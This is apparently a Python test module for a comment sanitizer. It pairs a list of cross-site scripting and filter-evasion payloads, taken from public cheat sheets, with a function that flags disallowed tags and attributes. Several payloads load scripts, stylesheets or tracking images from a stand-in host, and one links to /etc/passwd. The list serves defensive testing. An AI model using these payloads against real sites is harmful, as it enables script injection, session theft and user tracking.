"""What people type who want a script to run on the page of somebody else, in the manners that public collections list, such as
https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html and
https://portswigger.net/web-security/cross-site-scripting/cheat-sheet."""

from __future__ import annotations

import xml.etree.ElementTree as ET

SCRIPTS = (
    # elements that run something
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/src=data:,alert(1)>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "<script\x00>alert(1)</script>",
    "</p><script>alert(1)</script><p>",
    "</textarea><script>alert(1)</script>",
    "</title></style></noscript><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    # handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert`1`>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x></svg>",
    "<math><mtext></mtext><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<math href=javascript:alert(1)>x</math>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div onpointerover=alert(1) style=position:fixed;inset:0>x</div>",
    "<p style=animation-name:x onanimationstart=alert(1)>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<form id=x></form><button form=x formaction=//evil.example>x</button>",
    # what loads or leads elsewhere
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=data:text/html,<script>alert(1)</script>>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<a href=javascript:alert(1)>x</a>",
    "<template><script>alert(1)</script></template>",
    # links of Markdown
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert&#40;1&#41;)",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](file:///etc/passwd)",
    '[x](https://a.example "onmouseover=alert(1) x=")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](<https://a.example/' onmouseover='alert(1)>)",
    '![x](x"onerror="alert(1))',
    "![x](https://evil.example/seen.gif)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '<https://a.example/"onclick=alert(1)>',
    'https://a.example/"onmouseover=alert(1)//',
    "https://a.example/<script>alert(1)</script>",
    '```"><script>alert(1)</script>\nx\n```',
    "`<img src=x onerror=alert(1)>`",
    "| <script> |\n|---|\n| alert(1) |",
    # what a template might be taken for
    "{{constructor.constructor('alert(1)')()}}",
    "{% include 'secret_key' %}",
    "${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u202e>tpircs/<)1(trela>tpircs<",
    "＜script＞alert(1)＜/script＞",
)
MARKUP = {"p", "br", "em", "strong", "s", "a", "code", "pre", "blockquote", "ul", "ol", "li", "hr"}


def harm(html: str) -> list[str]:
    """What in the HTML of a comment can run, load or lead anywhere but to a page of the web; raises when it is not well-formed."""
    found = []
    for element in ET.fromstring(f"<div>{html}</div>").iter():
        if element.tag != "div" and element.tag not in MARKUP:
            found.append(f"<{element.tag}>")
        for name, value in element.attrib.items():
            is_link = (element.tag, name) == ("a", "href") and value.startswith(("http://", "https://"))
            is_rel = (element.tag, name, value) == ("a", "rel", "nofollow ugc noopener")
            is_start = (element.tag, name) == ("ol", "start") and value.isdecimal()
            if not (is_link or is_rel or is_start):
                found.append(f"{element.tag}[{name}={value!r}]")
    return found
